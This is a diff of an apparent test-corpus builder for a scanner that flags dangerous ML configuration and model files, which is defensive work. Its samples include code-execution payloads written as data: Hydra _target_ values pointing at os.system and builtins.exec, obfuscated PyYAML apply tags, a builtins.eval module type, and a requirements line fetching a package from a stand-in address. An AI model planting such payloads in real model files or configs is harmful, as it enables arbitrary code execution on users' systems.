@@ -49,8 +49,8 @@ add(TARGET, "default", "m: {_target_: '${oc.env:NOBODY_SETS_THIS,os.system}'}\n"
     "the name is the default of a variable")
 add(TARGET, "through", "m: {_target_: torch.nn.modules.os.system}\n", "through another package")
 add(TARGET, "reexport", "m: {_target_: random._os.system}\n", "through a module of the library")
-add(TARGET, "json", {"model": {"_target_": "builtins.exec", "_args_": ["print('pratique-sample')"]}},
-    "the same in JSON", extension="json")
+add(TARGET, "json", {"model": {"_target_": "builtins.exec", "_args_":
+    ["print('pratique-sample')"]}}, "the same in JSON", extension="json")
 add(TARGET, "class_path", "model:\n  class_path: subprocess.Popen\n  init_args: {args: 'true'}\n",
     "as jsonargparse spells it")
 add(TARGET, "latent", "model:\n  target: subprocess.run\n  params: {args: 'true'}\n",
@@ -71,7 +71,8 @@ twin(TARGET, "speechbrain", "seed: 1\nlin: !new:torch.nn.Linear\n  in_features: 
 add("yaml-tag", "apply", f"!!python/object/apply:os.system ['{COMMAND}']\n", "PyYAML's apply")
 add("yaml-tag", "directive", "%TAG !p! tag:yaml.org,2002:python/object/\n---\n"
     f"!p!apply:os.system ['{COMMAND}']\n", "the tag behind a directive")
-add("yaml-tag", "verbatim", f"a: !<tag:yaml.org,2002:python/object/apply:os%2esystem> ['{COMMAND}']\n",
+add("yaml-tag", "verbatim",
+    f"a: !<tag:yaml.org,2002:python/object/apply:os%2esystem> ['{COMMAND}']\n",
     "the tag in full, a character of it escaped")
 add("yaml-tag", "new", "a: !!python/object/new:subprocess.Popen [['true']]\n", "PyYAML's new")
 add("yaml-tag", "hyperpyyaml", f"a: !apply:os.system ['{COMMAND}']\n", "HyperPyYAML's apply")
@@ -103,7 +104,7 @@ add("remote-code", "not_strict", '{"auto_map": {"AutoModel": "modeling_x.X"}, "e
     "JSON as Python reads it", expected="suspicious", extension="json")
 add("remote-code", "modules", [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Model"}],
     "a module of sentence-transformers that is not theirs", expected="suspicious", extension="json")
-add("remote-code", "modules_builtin", [{"idx": 0, "name": "0", "path": "", "type": "builtins.eval"}],
+add("remote-code", "modules_builtin", [{"idx": 0, "path": "", "type": "builtins.eval"}],
     "and one that is anybody's", extension="json")
 add("remote-code", "model_index", {"_class_name": ["pipe", "Pipe"], "unet": ["my_unet", "Net"]},
     "a pipeline of diffusers beside the model", expected="suspicious", extension="json")
@@ -112,7 +113,7 @@ add("remote-code", "component", {"_class_name": "P", "unet": ["subprocess", "Pop
 add("remote-code", "parent_library", {"auto_mapping": {"base_model_class": "X",
     "parent_library": "antigravity"}}, "an adapter imports a module", expected="suspicious",
     extension="json")
-twin("remote-code", "config", HUB | {"_name_or_path": "/home/me/checkpoint", "vocab_size": 2,
+twin("remote-code", "config", HUB | {"_name_or_path": "/data/checkpoint", "vocab_size": 2,
      "auto_map": {}}, "traces of where it was made", extension="json")
 twin("remote-code", "modules", [{"idx": 0, "name": "0", "path": "", "type":
      "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling",
@@ -213,7 +214,7 @@ MLMODEL = "flavors:\n  python_function:\n    loader_module: {}\n    python_versi
 add("mlflow", "loader", MLMODEL.format("my_loader", "    code: code\n"), "code of its own",
     expected="suspicious", extension="")
 add("mlflow", "danger", MLMODEL.format("runpy", ""), "a module that runs files", extension="")
-twin("mlflow", "sklearn", MLMODEL.format("mlflow.sklearn", "  sklearn: {pickled_model: model.pkl}\n"),
+twin("mlflow", "sklearn", MLMODEL.format("mlflow.sklearn", "  sklearn: {code: }\n"),
      "a flavour of MLflow's", extension="")
 add("requirements", "address", "numpy==1.26\nevil @ http://192.0.2.1/evil-1.0.tar.gz\n",
     "a package from an address", expected="suspicious", extension="txt")
